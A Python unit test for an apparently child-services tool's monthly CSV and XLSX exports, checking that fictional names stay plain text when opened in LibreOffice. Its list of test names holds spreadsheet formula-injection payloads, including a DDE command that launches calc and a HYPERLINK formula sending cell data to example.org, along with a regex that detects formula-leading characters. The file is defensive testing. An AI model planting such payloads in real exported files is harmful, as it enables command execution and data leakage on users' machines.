"""The tables of a month, opened in LibreOffice: a text is a text there, whatever it begins with, and a number a number."""
import csv
import json
import os
import shutil
import subprocess
import tempfile
import unittest
import xml.etree.ElementTree as xml
import zipfile

PROGRAM = os.environ["EHCFLOW_PROGRAM"]
OFFICE, TABLE = ("urn:oasis:names:tc:opendocument:xmlns:" + name + "}" for name in ("office:1.0", "table:1.0"))
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
HOSTILE = ['=HYPERLINK("http://example.org/?x="&A2,"Look")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "|calc", "  =1+1",
           'Quote " and, comma', "＝1+1", "=cmd|' /C calc'!A0", "Ordinary <b>&amp;"]


def case(number, name):
    return {"reference": f"T-{number}", "record": {"child": {"first_name": name, "last_name": "Unwritten"}},
            "timeline": {"child": {"born": "2015-05-03"}, "events": [{"kind": "plan-transferred-in", "on": "2026-01-05",
                                                                      "made_on": "2025-05-26"}]}}


class Sheets(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="ehcflow-sheets-")
        cases = os.path.join(cls.folder, "cases")
        with open(cases, "w", encoding="utf-8") as file:
            for number, name in enumerate(HOSTILE):
                file.write(json.dumps(case(number, name)) + "\n")
        subprocess.run([PROGRAM, "wsoa", "--month", "2026-02", "--today", "2026-03-02", "--copy", "private", "--no-pdf",
                        "-o", cls.folder, "--cases", cases], check=True)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder)

    def opened(self, name):
        """The rows as LibreOffice has them: of each cell its type, formula and text. Only Calc opens tables, which the
        service does without, so that a machine may not have it."""
        profile = "file://" + os.path.join(self.folder, "profile")
        # UTF-8, comma, quotes; formulas are evaluated as a spreadsheet would on opening a file with a double click.
        filters = ["--infilter=CSV:44,34,76,1,,2057,false,true,false,false,false,-1,true"] if name.endswith(".csv") else []
        subprocess.run(["soffice", "-env:UserInstallation=" + profile, "--headless", *filters, "--convert-to", "fods",
                        "--outdir", self.folder, os.path.join(self.folder, name)], check=True, capture_output=True, timeout=300)
        converted = os.path.join(self.folder, name.rsplit(".", 1)[0] + ".fods")
        if not os.path.exists(converted):
            self.skipTest("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
        tree = xml.parse(converted)
        os.remove(converted)
        rows = []
        for row in tree.iter("{" + TABLE + "table-row"):
            cells = []
            for cell in row.iter("{" + TABLE + "table-cell"):
                text = "\n".join("".join(self.pieces(line)) for line in cell.iter(TEXT + "p"))
                cells += [(cell.get("{" + OFFICE + "value-type"), cell.get("{" + TABLE + "formula"), text)] * min(
                    12, int(cell.get("{" + TABLE + "number-columns-repeated", "1")))
            rows.append(cells)
        return [row for row in rows if any(text for _, _, text in row)]

    @staticmethod
    def pieces(paragraph):
        yield paragraph.text or ""
        for child in paragraph:
            if child.tag == TEXT + "s":
                yield " " * int(child.get(TEXT + "c", "1"))
            elif child.tag == TEXT + "tab":
                yield "\t"
            else:
                yield from Sheets.pieces(child)
            yield child.tail or ""

    def test_the_files_hold_no_formula_whoever_reads_them(self):
        with open(os.path.join(self.folder, "whereabouts-2026-02.csv"), encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        self.assertEqual(len(rows), 1 + len(HOSTILE))
        for row in rows:
            for cell in row:
                self.assertNotRegex(cell, r"^\s*[=+\-@|\t\r\n＝]")
        with zipfile.ZipFile(os.path.join(self.folder, "whereabouts-2026-02.xlsx")) as package:
            self.assertIsNone(package.testzip())
            sheet = xml.fromstring(package.read("xl/worksheets/sheet1.xml"))
            self.assertFalse([name for name in package.namelist() if "external" in name.lower()])
        main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
        self.assertFalse(list(sheet.iter(main + "f")))
        texts = ["".join(cell.itertext()) for cell in sheet.iter(main + "c") if cell.get("t") == "inlineStr"]
        for name in HOSTILE:
            self.assertIn(name + " Unwritten", texts)  # as it is: there a text cannot be a formula

    def test_a_name_is_never_a_formula(self):
        for form in ("csv", "xlsx"):
            rows = self.opened(f"whereabouts-2026-02.{form}")
            self.assertEqual([text for _, _, text in rows[0][:2]], ["reference", "name"], form)
            self.assertEqual(len(rows), 1 + len(HOSTILE), form)
            for row in rows:
                for kind, formula, _ in row:
                    self.assertIsNone(formula, (form, row))
                    self.assertIn(kind, (None, "string", "date"), (form, row))
            names = {row[0][2]: row[1][2] for row in rows[1:]}
            for number, name in enumerate(HOSTILE):
                self.assertIn(name.strip("\t"), names[f"T-{number}"].strip("\t"), form)

    def test_a_number_is_a_number(self):
        for form in ("csv", "xlsx"):
            rows = self.opened(f"measures-2026-02.{form}")
            self.assertEqual(len(rows), 1 + 12 * (len(rows) // 12), form)
            for row in rows[1:]:
                self.assertEqual([kind for kind, _, _ in row[3:10]], ["float"] * 7, (form, row))
                self.assertTrue(all(formula is None for _, formula, _ in row))


if __name__ == "__main__":
    unittest.main()
